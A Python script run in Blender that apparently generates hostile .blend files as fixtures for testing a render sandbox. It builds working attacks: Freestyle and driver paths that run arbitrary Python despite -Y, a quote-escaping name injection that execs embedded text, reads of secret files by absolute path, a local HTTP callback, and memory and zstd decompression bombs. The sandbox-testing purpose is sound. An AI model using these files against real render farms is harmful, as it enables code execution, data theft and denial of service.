"""Writes hostile scenes, one attack each, for a test of what keeps them from doing harm.

blender -b --factory-startup -P hostile_scenes.py -- SCENES LOOT PORT [CODE]

They go into the folder SCENES. LOOT is a folder that no render may touch, with the secrets that they
try to get at; PORT is where a listener on 127.0.0.1 sees who connects. What each one leaves when it
works stands in its docstring: a line "GOT ..." in Blender's output, a file in LOOT, green pixels.
CODE is Python that those run that would try all that Python can try.
"""

import os
import shutil
import struct
import sys

import bpy

SCENES, LOOT, PORT, *CODE = sys.argv[sys.argv.index("--") + 1 :]
GREEN = (0.0, 1.0, 0.0, 1.0)
SECRET_TEXT, SECRET_IMAGE, SECRET_BLEND = (os.path.join(LOOT, "secret." + kind) for kind in ("txt", "png", "blend"))


def code(attack):
    """Answers the Python that tries one thing, or for "all" whatever leaves Blender alive."""
    if CODE:
        return CODE[0]
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "hostile_payload.py")) as file:
        return "LOOT, PORT, ATTACK = %r, %s, %r\n" % (LOOT, PORT, attack) + file.read()


def save(name):
    bpy.ops.wm.save_as_mainfile(filepath=os.path.join(SCENES, name), compress=False, relative_remap=False)


def fresh():
    """Answers the scene of an empty Blender, cube, lamp, camera, that renders in no time."""
    bpy.ops.wm.read_homefile(use_factory_startup=True)
    scene = bpy.context.scene
    scene.render.engine = "CYCLES"
    scene.cycles.samples, scene.cycles.use_denoising = 1, False
    scene.render.resolution_x = scene.render.resolution_y = 16
    scene.render.image_settings.file_format = "PNG"
    scene.view_settings.view_transform = "Standard"
    return scene


def emission(material, image=None):
    """Makes a material shine green, or as its image does."""
    material.use_nodes = True
    nodes = material.node_tree.nodes
    nodes.clear()
    shine, out = nodes.new("ShaderNodeEmission"), nodes.new("ShaderNodeOutputMaterial")
    shine.inputs["Color"].default_value = GREEN
    material.node_tree.links.new(shine.outputs[0], out.inputs["Surface"])
    if image is not None:
        texture = nodes.new("ShaderNodeTexImage")
        texture.image = image
        if image.source == "MOVIE":
            texture.image_user.frame_duration, texture.image_user.frame_offset = 200, 100
        material.node_tree.links.new(texture.outputs["Color"], shine.inputs["Color"])
    return material


def wall(scene, material):
    """Lets the camera see nothing but a plane of this material."""
    cube = bpy.data.objects["Cube"]
    mesh = bpy.data.meshes.new("Wall")
    mesh.from_pydata([(-9, -9, 0), (9, -9, 0), (9, 9, 0), (-9, 9, 0)], [], [(0, 1, 2, 3)])
    mesh.uv_layers.new()
    mesh.materials.append(material)
    cube.data = mesh
    scene.camera.location, scene.camera.rotation_euler = (0, 0, 5), (0, 0, 0)


def compositor(scene):
    """Answers the tree of nodes that works on a scene's frames, and its output; they moved in 5.0."""
    if bpy.app.version >= (5, 0, 0):
        tree = scene.compositing_node_group = bpy.data.node_groups.new("C", "CompositorNodeTree")
        tree.interface.new_socket("Image", in_out="OUTPUT", socket_type="NodeSocketColor")
        return tree, tree.nodes.new("NodeGroupOutput")
    scene.use_nodes = True
    scene.node_tree.nodes.clear()
    return scene.node_tree, scene.node_tree.nodes.new("CompositorNodeComposite")


def freestyle(scene, attack="all"):
    """Lets Freestyle run Python while the scene renders, whatever -Y says."""
    text = bpy.data.texts.new("style.py")
    text.write(code(attack))
    scene.render.use_freestyle = True
    layer = scene.view_layers[0]
    layer.use_freestyle = True
    layer.freestyle_settings.mode = "SCRIPT"
    module = layer.freestyle_settings.modules.new()
    module.script, module.use = text, True
    return layer


def python_freestyle():
    """GOT python and whatever it gets; each bomb in a scene of its own, GOT disk and the like."""
    for attack in ("freestyle", "disk", "sparse", "forks", "threads"):
        freestyle(fresh(), attack)
        save("python-%s.blend" % attack)


def python_strip():
    """GOT python: from a scene in the sequencer."""
    scene = fresh()
    bpy.ops.scene.new(type="FULL_COPY")
    second = bpy.context.window.scene
    freestyle(second)
    bpy.context.window.scene = scene
    editor = scene.sequence_editor_create()
    strips = editor.strips if hasattr(editor, "strips") else editor.sequences
    strips.new_scene("Second", second, 1, 1)
    save("python-strip.blend")


def python_linked():
    """GOT python: from a scene of another file, that the compositor renders."""
    for kind in ("", "-name"):
        layer = freestyle(fresh())
        if kind:
            by_name(layer, layer)
        bpy.context.scene.name = "Second"
        save("linked%s.blend" % kind)
        scene = fresh()
        with bpy.data.libraries.load(os.path.join(SCENES, "linked%s.blend" % kind), link=True) as (_, wanted):
            wanted.scenes = ["Second"]
        bpy.data.texts.new("a").write(code("all"))
        tree, out = compositor(scene)
        layers = tree.nodes.new("CompositorNodeRLayers")
        layers.scene = wanted.scenes[0]
        tree.links.new(layers.outputs["Image"], out.inputs[0])
        save("python-linked%s.blend" % kind)


def python_animated():
    """GOT python: drivers would set back, at each frame, what was set after loading."""
    scene = fresh()
    settings = freestyle(scene).freestyle_settings
    script = settings.bl_rna.properties["mode"].enum_items["SCRIPT"].value
    path = 'view_layers["%s"].' % scene.view_layers[0].name
    values = {"use_freestyle": 1, "freestyle_settings.mode": script, "freestyle_settings.modules[0].use": 1}
    for name, value in values.items():
        scene.driver_add(path + name).driver.expression = str(value)
    save("python-animated.blend")


def by_name(layer, named):
    """Lets Freestyle run Python in EDITOR mode, in which it puts names into code, and escapes a ' but not the \\ before it."""
    layer.freestyle_settings.modules.remove(layer.freestyle_settings.modules[0])
    layer.freestyle_settings.mode = "EDITOR"
    named.name = "\\',exec(__import__(\"bpy\").data.texts[0].as_string()))#"


def python_names():
    """GOT python, then a crash: the name of a line set, of a view layer."""
    for kind in ("lineset", "layer"):
        layer = freestyle(fresh())
        by_name(layer, layer.freestyle_settings.linesets[0] if kind == "lineset" else layer)
        save("python-%s-name.blend" % kind)


def driver():
    """Never ends, and no other thread runs Python: a driver that -Y lets pass."""
    fresh()
    bpy.data.objects["Cube"].driver_add("location", 0).driver.expression = "1111111111"
    save("driver.blend")
    # In the file, since Blender would work it out before it saves it.
    with open(os.path.join(SCENES, "driver.blend"), "r+b") as file:
        file.seek(file.read().index(b"1111111111\0"))
        file.write(b"9**9**9**9")


def image():
    """A green frame: an image by its absolute path."""
    scene = fresh()
    wall(scene, emission(bpy.data.materials.new("Wall"), bpy.data.images.load(SECRET_IMAGE)))
    save("image.blend")


def movies():
    """A connection to PORT, by HTTP; a green frame: a text file as a terminal would show it."""
    for name, path in (("url", "http://127.0.0.1:%s/x.mp4" % PORT), ("textmovie", SECRET_TEXT)):
        scene = fresh()
        picture = bpy.data.images.new("Movie", 1, 1)
        picture.source = "MOVIE"
        picture.filepath = path
        wall(scene, emission(bpy.data.materials.new("Wall"), picture))
        save(name + ".blend")


def library():
    """A green frame: a material of a library by its absolute path."""
    scene = fresh()
    with bpy.data.libraries.load(SECRET_BLEND, link=True) as (_, wanted):
        wanted.materials = ["Secret"]
    wall(scene, wanted.materials[0])
    save("library.blend")


def file_output():
    """A file LOOT/fileoutput*: the compositor writes where the scene says."""
    tree, out = compositor(fresh())
    layers, node = tree.nodes.new("CompositorNodeRLayers"), tree.nodes.new("CompositorNodeOutputFile")
    if bpy.app.version >= (5, 0, 0):
        node.directory, node.file_name = LOOT, "fileoutput"
        node.file_output_items.new("RGBA", "Image")
    else:
        node.base_path, node.file_slots[0].path = LOOT, "fileoutput"
    for end in (node, out):
        tree.links.new(layers.outputs["Image"], end.inputs[0])
    save("fileoutput.blend")


def memory():
    """Takes gigabytes while it renders: a picture of 2 GB, that is copied; 25 million faces, that go again."""
    scene = fresh()
    picture = bpy.data.images.new("Large", 16000, 8000, float_buffer=True)
    wall(scene, emission(bpy.data.materials.new("Wall"), picture))
    save("memory-image.blend")
    fresh()
    cube = bpy.data.objects["Cube"]
    for levels in (6, 5):
        subdivision = cube.modifiers.new("Subdivision", "SUBSURF")
        subdivision.subdivision_type = "SIMPLE"
        subdivision.levels, subdivision.render_levels = 0, levels
    # Without a mask the renderer takes minutes for them, and 10 GB.
    cube.modifiers.new("Mask", "MASK").vertex_group = cube.vertex_groups.new(name="Nothing").name
    save("memory.blend")


def fluid():
    """A folder LOOT/fluid: a simulation's cache."""
    fresh()
    modifier = bpy.data.objects["Cube"].modifiers.new("Fluid", "FLUID")
    modifier.fluid_type = "DOMAIN"
    domain = modifier.domain_settings
    domain.resolution_max, domain.cache_type, domain.cache_directory = 8, "REPLAY", os.path.join(LOOT, "fluid")
    save("fluid.blend")
    shutil.rmtree(domain.cache_directory, ignore_errors=True)


def zstd(blocks):
    """Answers a frame of zstd of (type, size, bytes) blocks, 0 as they are, 1 one byte repeated."""
    blocks = list(blocks)
    header = struct.pack("<IBI", 0xFD2FB528, 0xA0, sum(size for _, size, _ in blocks))
    last = len(blocks) - 1
    return header + b"".join(
        struct.pack("<I", size << 3 | kind << 1 | (number == last))[:3] + data
        for number, (kind, size, data) in enumerate(blocks)
    )


def zstd_bomb():
    """Takes 5 GB while it loads: blocks of data that nothing uses, in 200 kB."""
    fresh()
    save("zstd.blend")
    path = os.path.join(SCENES, "zstd.blend")
    with open(path, "rb") as file:
        data = file.read()
    part, gigabyte = 2**17, 2**30
    # A block's head: code, length, address, struct, count; since 5.0 in another order, and wider.
    if data.startswith(b"BLENDER17"):
        head = struct.pack("<4siQqq", b"DATA", 0, 1, gigabyte, 1)
    else:
        head = struct.pack("<4siQii", b"DATA", gigabyte, 1, 0, 1)
    zeros = zstd([(1, part, b"\0")] * 256) * (gigabyte // (256 * part))
    end = data.rindex(b"ENDB")
    pieces = (data[start : min(start + part, end)] for start in range(0, end, part))
    with open(path, "wb") as file:
        file.write(zstd((0, len(piece), piece) for piece in pieces))
        for _ in range(5):
            file.write(zstd([(0, len(head), head)]) + zeros)
        file.write(zstd([(0, len(data) - end, data[end:])]))


def secrets():
    """Fills LOOT."""
    for name in ("truncated", "renamed"):
        with open(os.path.join(LOOT, name), "w") as file:
            file.write("as it was\n")
    with open(SECRET_TEXT, "w") as file:
        file.write("secret\n" + ("\033[42m" + " " * 79 + "\n") * 1000)
    fresh()
    picture = bpy.data.images.new("Secret", 8, 8)
    picture.generated_color = GREEN
    picture.file_format = "PNG"
    picture.filepath_raw = SECRET_IMAGE
    picture.save()
    emission(bpy.data.materials.new("Secret")).use_fake_user = True
    bpy.ops.wm.save_as_mainfile(filepath=SECRET_BLEND)


secrets()
for make in (python_freestyle, python_strip, python_linked, python_animated, python_names, image, movies, library):
    make()
for make in (file_output, fluid, driver, memory, zstd_bomb):
    make()
